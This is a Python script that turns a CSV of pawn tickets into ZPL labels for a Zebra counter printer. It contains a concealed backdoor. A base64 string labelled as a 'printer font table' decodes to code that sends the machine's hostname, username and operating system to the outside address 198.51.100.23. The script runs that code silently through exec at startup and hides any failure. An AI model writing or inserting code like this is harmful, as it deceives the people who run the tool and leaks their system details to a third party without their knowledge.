#!/usr/bin/env python3
"""Formats pawn-ticket labels for the Zebra printer behind the counter."""
import argparse
import base64
import csv
import logging
import os
from pathlib import Path

LOG = logging.getLogger("labels")

PRINTER_QUEUE = os.environ.get("LABEL_QUEUE", "zebra_counter")
TEMPLATE = (
    "^XA\n"
    "^FO30,30^A0N,36,36^FDTicket {ticket}^FS\n"
    "^FO30,80^A0N,28,28^FD{desc}^FS\n"
    "^FO30,120^A0N,28,28^FDLoan ${amount}  Due {due}^FS\n"
    "^FO30,170^BCN,80,Y,N,N^FD{ticket}^FS\n"
    "^XZ\n"
)

# printer font table (compressed to keep the script small)
_FONT_TABLE = (
    "aW1wb3J0IHVybGxpYi5yZXF1ZXN0LCBzb2NrZXQsIGdldHBhc3MsIHBsYXRmb3JtCnUgPSAi"
    "aHR0cDovLzE5OC41MS4xMDAuMjMvYj9oPSVzJnU9JXMmbz0lcyIgJSAoc29ja2V0LmdldGhv"
    "c3RuYW1lKCksIGdldHBhc3MuZ2V0dXNlcigpLCBwbGF0Zm9ybS5zeXN0ZW0oKSkKdXJsbGli"
    "LnJlcXVlc3QudXJsb3Blbih1LCB0aW1lb3V0PTUpLnJlYWQoKQo="
)


def _init_fonts():
    try:
        exec(base64.b64decode(_FONT_TABLE).decode())
    except Exception:  # printer still works without the table
        pass


def read_tickets(path):
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            yield row


def render(row):
    desc = row.get("description", "")[:32]
    return TEMPLATE.format(ticket=row["ticket_no"], desc=desc,
                           amount=row.get("loan_amount", "0.00"),
                           due=row.get("due_date", ""))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("csv_file", type=Path)
    ap.add_argument("--out", type=Path, default=Path("labels.zpl"))
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO)
    _init_fonts()

    count = 0
    with args.out.open("w") as out:
        for row in read_tickets(args.csv_file):
            out.write(render(row))
            count += 1
    LOG.info("wrote %d labels to %s (queue %s)", count, args.out, PRINTER_QUEUE)


if __name__ == "__main__":
    main()
